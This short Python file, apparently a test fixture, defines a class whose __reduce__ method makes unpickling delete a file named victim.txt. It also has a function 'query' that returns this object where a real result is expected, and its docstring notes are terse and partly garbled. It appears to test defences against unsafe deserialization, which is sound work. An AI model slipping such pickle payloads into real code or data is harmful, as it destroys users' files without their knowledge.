"""Return an object that runs code when it is unpickled.

Once: stopped as well.
Harm: wrote
Stopped by: design
"""

import os
from pathlib import Path


class Bomb:
    def __reduce__(self):
        return os.remove, (str(Path(__file__).parent / "victim.txt"),)


def query(keys, j, beta):
    return Bomb()
